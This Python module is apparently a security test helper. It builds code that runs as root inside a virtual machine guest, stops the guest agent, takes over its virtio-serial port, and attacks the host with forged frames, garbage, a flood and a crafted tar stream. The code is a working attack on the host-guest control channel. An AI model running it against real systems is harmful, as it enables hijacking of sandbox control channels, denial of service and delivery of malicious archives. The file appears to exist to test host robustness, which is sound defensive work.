"""What root inside a guest can do to the host's control channel (runs INSIDE the guest).

``attack_code(seconds)`` returns Python source for ``AgentExecutor.execute(code=...)``.
It forks a daemon and returns at once; the daemon stops the agent (SIGSTOP: init does not
restart a stopped agent), takes a duplicate of the agent's port descriptor
(``pidfd_getfd``), and writes to the host, in turn: garbage, a header announcing the
maximum length followed by silence, frames for request ids the host never sent, RESULT
frames for requests other than the host's, and then a flood of all of these at full
speed until ``seconds`` have passed. Standard library only; it needs root.
"""

from __future__ import annotations

import inspect


def _frame(kind: int, rid: int, payload: bytes, length: int | None = None, flags: int = 0) -> bytes:
    import struct
    import zlib

    size = len(payload) if length is None else length
    head = struct.pack(">4sBBHIII", b"AVMP", 1, kind, flags, rid, size, 0)[:-4]
    head += struct.pack(">I", zlib.crc32(head))
    return head + payload + struct.pack(">I", zlib.crc32(payload))


def _take_port() -> tuple[int, int]:  # pragma: no cover
    """In a daemon forked off the command: stop the agent (SIGSTOP: init does not
    restart a stopped agent); returns its pid and a duplicate of its virtio-serial port."""
    import ctypes
    import os
    import pathlib
    import signal

    proc = pathlib.Path("/proc")
    init_cmdline = (proc / "1" / "cmdline").read_bytes()
    agent = None
    for entry in proc.iterdir():
        if not entry.name.isdigit() or entry.name == "1":
            continue
        try:  # the agent: forked by init (same command line), a child of init
            cmdline = (entry / "cmdline").read_bytes()
            ppid = (entry / "stat").read_text().rsplit(")", 1)[1].split()[1]
        except OSError:
            continue
        if cmdline == init_cmdline and ppid == "1":
            agent = int(entry.name)
    if agent is None:
        os._exit(2)
    port_fd = None
    for link in (proc / str(agent) / "fd").iterdir():
        if str(link.readlink()).startswith("/dev/vport"):
            port_fd = int(link.name)
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, agent, 0)  # pidfd_open
    port = libc.syscall(438, pidfd, port_fd, 0)  # pidfd_getfd
    if port < 0:
        os._exit(3)
    os.kill(agent, signal.SIGSTOP)
    return agent, int(port)


def _daemonize() -> bool:  # pragma: no cover
    """Fork; True in the parent (the command, which returns at once), False in the
    daemon, whose output goes nowhere (so the command's RESULT reaches the host)."""
    import os

    if os.fork():
        print("daemon started", flush=True)
        return True
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    return False


def _guest_attack(seconds: float) -> None:  # pragma: no cover
    import json
    import os
    import time

    frame = _frame
    max_payload = 1 << 20
    if _daemonize():
        return
    time.sleep(1.0)
    _agent, port = _take_port()

    def send(data: bytes) -> None:
        view = memoryview(data)
        while view:
            view = view[os.write(port, view) :]

    result = json.dumps({"exit_code": 0, "signal": None, "timed_out": False, "duration": 0.0})
    send(os.urandom(65536))  # garbage
    send(frame(0x12, 1, b"", length=max_payload)[:20])  # a header, then silence
    time.sleep(3)
    send(os.urandom(max_payload + 4))  # the "payload" and its (wrong) CRC, then resync
    for rid in range(1000, 1100):  # request ids the host never sent
        send(frame(0x12, rid, b"not yours"))
        send(frame(0x14, rid, result.encode()))  # RESULT for a request of nobody
    deadline = time.monotonic() + seconds
    chunk = os.urandom(4096)
    burst = b"".join(frame(0x12, rid, b"x" * 60000) for rid in range(2000, 2016))
    while time.monotonic() < deadline:  # the flood
        send(burst)
        send(chunk)
        send(frame(0x14, 999999, result.encode()))
    os._exit(0)


def guest_source(*functions: object) -> str:
    """Source to run in the guest: the helpers above, then ``functions``."""
    parts = [inspect.getsource(fn) for fn in (_frame, _take_port, _daemonize, *functions)]  # type: ignore[arg-type]
    return "from __future__ import annotations\n" + "\n".join(parts)


def attack_code(seconds: float) -> str:
    return f"{guest_source(_guest_attack)}\n_guest_attack({seconds!r})\n"


def _guest_tar_server(tar_b64: str) -> None:  # pragma: no cover
    """Answer the host's next ``tar`` file request with the given (crafted) tar stream,
    as a hostile guest would, in place of the stopped agent."""
    import base64
    import json
    import os
    import struct
    import time

    stream = base64.b64decode(tar_b64)
    if _daemonize():
        return
    time.sleep(0.5)
    _agent, port = _take_port()

    def send(data: bytes) -> None:
        view = memoryview(data)
        while view:
            view = view[os.write(port, view) :]

    pending = b""
    while True:
        pending += os.read(port, 1 << 16)
        while len(pending) >= 24:
            _magic, _version, kind, _flags, rid, length, _crc = struct.unpack(
                ">4sBBHIII", pending[:20]
            )
            if len(pending) < 24 + length:
                break
            payload, pending = pending[20 : 20 + length], pending[24 + length :]
            if kind == 0x40 and json.loads(payload).get("op") == "tar":
                for start in range(0, len(stream), 1 << 16):
                    last = start + (1 << 16) >= len(stream)
                    send(_frame(0x41, rid, stream[start : start + (1 << 16)], flags=int(last)))
                send(_frame(0x43, rid, json.dumps({"value": len(stream)}).encode()))


def tar_server_code(stream: bytes) -> str:
    """Source for ``execute(code=...)``: the command returns at once; a daemon then takes
    over the channel and serves ``stream`` to the next download_dir."""
    import base64

    encoded = base64.b64encode(stream).decode()
    return f"{guest_source(_guest_tar_server)}\n_guest_tar_server({encoded!r})\n"
